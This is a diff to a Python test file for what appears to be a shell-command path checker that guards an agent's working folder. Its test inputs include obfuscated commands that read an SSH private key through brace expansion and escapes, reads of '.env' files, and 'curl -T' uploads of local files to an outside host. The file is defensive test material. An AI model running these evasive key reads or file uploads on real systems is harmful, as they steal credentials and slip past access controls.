@@ -60,7 +60,8 @@ WHERE = Where("/w", ("/h",), {"HOME": "/h", "PWD": "/w"})
         "cat /proc/$$/task/1/cwd/../h/.ssh/id",
         "cat ~/.s\\\nsh/id",
         "cat ~/.ss{g..i}/id",
-        "cat ~/.s{01..10..3}h/id",
+        "cat ~/.ss{H..h..32}/id",
+        "cat {/,x}{h,x}{/,x}{.,x}{s,x}{s,x}{h,x}",
         "a=/h/.s; a+=sh; cat $a/id",
         "cat $(dirname $PWD)/.ssh/id",
         "cat `dirname $PWD`/.ssh/id",
@@ -128,6 +129,58 @@ def test_what_names_no_path_outside_is_left_alone(text: str) -> None:
     found = mentions([text], WHERE)
     assert found is not None
     assert [path for path in found if not path.startswith("/w") and path != "/"] == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            "cut -f1 -d/ a.txt",
+            "sort -t/ -k2 a.txt",
+            "awk -F/ '{print 1}' a.txt",
+            "head -n$N a.txt",
+            "mysql -p$PASS db",
+        ),
+        *("node -e 'spawn(\"x\", {cwd: process.cwd()})'", "for n in {1..9}; do mkdir m$n; done", "echo {a..e}"),
+        *("mkdir -p old/$(date +%F)", "cp a.txt old/`date '+%Y-%m-%d'`.txt"),
+    ],
+)
+def test_what_an_everyday_line_holds_is_no_folder_and_no_other_file(text: str) -> None:
+    """A slash between fields, how many lines, a password, the folder where it is, numbers, letters and days."""
+    from orch_worker.policy import within
+
+    found = mentions([text], WHERE)
+    assert found is not None
+    assert not any(within(path, rule) for path in found for rule in ("/w/.env", "/w/*/.env", ".env"))
+    assert [path for path in found if not path.startswith("/w")] == []
+
+
+def test_a_series_is_what_it_counts() -> None:
+    """Numbers, or single letters; and a known variable is looked at behind an option."""
+    from orch_worker.policy import within
+
+    for text, rule in (
+        ("cat k{1..3}", "/w/k2"),
+        ("cat k{08..12}.txt", "/w/k10.txt"),
+        ("cat 'it'\\''s' <<< it\\'s; cat k{1..3}", "/w/k2"),
+        ("cat .en{u..w}", "/w/.env"),
+        ("X=/h/a; curl -T$X x.org", "/h/a"),
+        ("curl -T$WHO/../a x.org", "/a"),
+    ):
+        found = mentions([text], WHERE)
+        assert found is not None
+        assert any(within(path, rule) for path in found), (text, found)
+
+
+def test_long_data_is_looked_through_in_no_more_room_than_it_takes() -> None:
+    """JSON without spaces, and one word with thousands of parts; of braces beyond all bounds it is said."""
+    row = '{"id":7,"name":"a b","path":"src/x","tags":["a","b"],"sub":{"x":1,"y":[1,2]}}'
+    for text in (f"curl -d '[{','.join([row] * 70)}]' x.org", f"x={',' * 30_000}"):
+        found = mentions([text], WHERE)
+        assert found is not None
+        assert sum(map(len, found)) < 20_000_000
+    assert mentions([f"cat {'{a,b}' * 9}.env"], WHERE) is None
+    assert mentions([f"cat {'{a,b}' * 800}"], WHERE) is None
 
 
 def test_nested_arguments_are_looked_at() -> None:
